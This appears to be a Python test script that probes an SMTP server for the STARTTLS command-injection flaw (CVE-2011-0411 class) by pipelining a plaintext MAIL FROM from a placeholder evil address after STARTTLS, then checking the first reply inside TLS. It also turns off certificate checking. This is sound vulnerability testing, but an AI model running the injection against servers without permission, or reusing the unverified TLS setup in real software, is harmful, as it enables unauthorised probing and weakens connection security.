#!/usr/bin/env python3
"""CVE-2011-0411 class: commands pipelined in plaintext after STARTTLS must
not be executed inside the TLS session. Prints the first reply the server
gives inside TLS to our EHLO; a vulnerable server answers the injected
MAIL FROM first.

usage: starttls_inject.py HOST PORT
"""
import socket
import ssl
import sys

host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port), timeout=10)
f = s.makefile("rb")


def reply():
    lines = []
    while True:
        line = f.readline().decode()
        lines.append(line.rstrip("\r\n"))
        if len(line) < 4 or line[3] != "-":
            return lines


reply()
s.sendall(b"EHLO client.test.example\r\n")
reply()
s.sendall(b"STARTTLS\r\nMAIL FROM:<injected@evil.example>\r\n")
first = reply()
assert first[0].startswith("220"), first
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
t = ctx.wrap_socket(s, server_hostname="mx.test.example")
f = t.makefile("rb")
t.sendall(b"EHLO client.test.example\r\n")
r = reply()
print(r[0])
t.sendall(b"MAIL FROM:<ok@test.example>\r\n")
print(reply()[0])
t.sendall(b"QUIT\r\n")
